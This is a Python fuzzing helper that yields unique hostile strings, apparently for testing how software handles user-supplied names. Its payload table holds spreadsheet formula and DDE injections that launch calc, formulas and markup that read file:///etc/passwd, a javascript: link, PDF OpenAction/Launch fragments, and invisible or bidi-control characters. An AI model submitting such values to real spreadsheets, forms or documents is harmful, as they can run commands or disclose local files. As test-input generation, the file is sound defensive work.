"""Texts that people might give themselves as names to do harm, or that harm by themselves: as many as wanted, no two the same."""

from __future__ import annotations

import random
from typing import TYPE_CHECKING

if TYPE_CHECKING:
    from collections.abc import Iterator

_STARTS = (
    "=",
    "+",
    "-",
    "@",
    "|",
    "%",
    "\t",
    "\r",
    "\n",
    "\uff1d",
    "\uff0b",
    "\uff0d",
    "\uff20",
    "\ufe66",
    "\u207a",
    "'",
    '"',
    ";",
    ",",
)
_BEFORE = (
    "",
    "",
    "",
    " ",
    "\u00a0",
    "\u2003",
    "\u3000",
    "\u200b",
    "\ufeff",
    "\u202e",
    "\u2066",
    "\u00ad",
    "\0",
    "\x01",
    "\u0301",
    "\u2028",
)
_BODIES = (
    "1+1", "SUM(A1:A9)", 'HYPERLINK("https://example.org/?"&A1,"x")', "cmd|' /C calc'!A0", 'IMPORTXML("https://example.org","//a")',
    'WEBSERVICE("file:///etc/passwd")', 'DDE("cmd";"/C calc";"1")', "<b>x</b>&amp;", '<img src="file:///etc/passwd"/>',
    "<a href='javascript:alert(1)'>x</a>", '</para><onDraw name="x"/>', "&#0;&#x202e;", "https://example.org", "mailto:a@example.org",
    "(\\) /JavaScript /JS /OpenAction /Launch /URI", ") Tj ET Q endstream endobj", "%PDF-1.7 trailer", "\\", "_x0041_", "{=SUM(A1)}",
    "$x^2$ \\frac{1}{0}", "1e5", "TRUE", "00112233", "2026-11-27", "a\r\nb", 'a","b', 'a""b', "]]>", "\ud800", "\udfff x",
    "\ufffe\uffff", "Z" + "\u0338" * 40, "\U0001f468\u200d\U0001f469\u200d\U0001f467", "\U0001f1e9\U0001f1ea", "\u0645\u0631\u062d\u0628\u0627",
    "\u0928\u092e\u0938\u094d\u0924\u0947", "\u0e2a\u0e27\u0e31\u0e2a\u0e14\u0e35", "\u516c\u4f1a", "\U0001d571\U0001d598\U0001d599", "\ufdfa",
)  # fmt: skip
_PLANES = (
    range(0x20, 0x7F),
    range(0x80, 0x3000),
    range(0x3000, 0xD800),
    range(0xE000, 0x10000),
    range(0x10000, 0x20000),
    range(0x110000),
)


def hostile_texts(count: int, seed: int) -> Iterator[str]:
    """Yield `count` different texts of at most 120 letters, the same for the same seed."""
    dice = random.Random(seed)
    seen: set[str] = set()
    while len(seen) < count:
        text = _one(dice)
        if text not in seen:
            seen.add(text)
            yield text


def _one(dice: random.Random) -> str:
    shape = dice.randrange(4)
    signs = _signs(dice, dice.randint(0, 12))
    if shape == 0:
        return signs + dice.choice(_STARTS) + _signs(dice, 3)
    if shape == 1:
        return dice.choice(_BEFORE) + dice.choice(_BEFORE) + dice.choice(_STARTS) + dice.choice(_BODIES) + signs
    if shape == 2:
        return dice.choice(_BEFORE) + dice.choice(_BODIES) + signs
    return _signs(dice, dice.randint(1, 100))


def _signs(dice: random.Random, count: int) -> str:
    return "".join(chr(dice.choice(dice.choice(_PLANES))) for _ in range(count))
